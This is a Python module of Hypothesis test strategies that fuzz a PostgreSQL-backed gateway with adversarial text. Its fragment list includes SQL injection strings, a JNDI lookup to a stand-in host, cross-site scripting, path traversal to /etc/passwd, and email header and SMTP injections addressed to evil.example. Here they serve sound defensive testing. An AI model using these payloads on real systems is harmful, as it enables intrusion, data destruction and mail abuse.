"""Texts that have broken other systems, as hypothesis draws them."""

from __future__ import annotations

from hypothesis import strategies as st

FRAGMENTS = (
    "'; DROP TABLE tenant; --",
    "' OR '1'='1",
    '"; SELECT pg_sleep(60); --',
    "%(tenant)s %s %% $1 :name",
    "\\'; \\x27 \\\\",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{0.__class__} %n ${jndi:ldap://198.51.100.1/x}",
    "<script>alert(1)</script>",
    "\" onload=alert(1) x='",
    "</td></table><a href=https://evil.example>",
    "&lt;b&gt; &#0; ]]>",
    "=HYPERLINK(1)",
    "../../../../etc/passwd",
    "\u202eetad\u202c \u2066x\u2069",
    "e\u0301\u0301\u0301 \u200b\ufeff \U0001f926\U0001f3fc\u200d\u2642\ufe0f",
    "\u2028\u2029\x85",
    "\r\nBcc: eve@evil.example",
    "\nSubject: other\n\nbody",
    "\r\n.\r\nMAIL FROM:<eve@evil.example>\r\n",
    "\n.\n",
    "\r.\r",
    "X\r\nX-Injected: 1\r\n\r\n",
    "=?utf-8?q?=0d=0aBcc:_eve@evil.example?=",
)
UNSTORABLE = ("\x00", "a\x00b", "\ud800", "x\udfffy", "\udc80", "\x1b[31m", "\x7f")

_LONG = st.integers(100, 65536).map(lambda length: "A" * length)


def storable_texts() -> st.SearchStrategy[str]:
    """Any text that PostgreSQL can hold, whether or not the gateway lets it in; line breaks too."""
    some = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=40)
    return st.one_of(
        st.sampled_from(FRAGMENTS), some, st.builds("{}{}{}".format, some, _pieces(), some)
    )


def texts() -> st.SearchStrategy[str]:
    """Any text that JSON can spell: half surrogates, NUL and 64 KiB as well."""
    some = st.text(st.characters(exclude_categories=()), max_size=20)
    return st.one_of(storable_texts(), st.sampled_from(UNSTORABLE), some, _LONG)


def _pieces() -> st.SearchStrategy[str]:
    return st.sampled_from(FRAGMENTS)
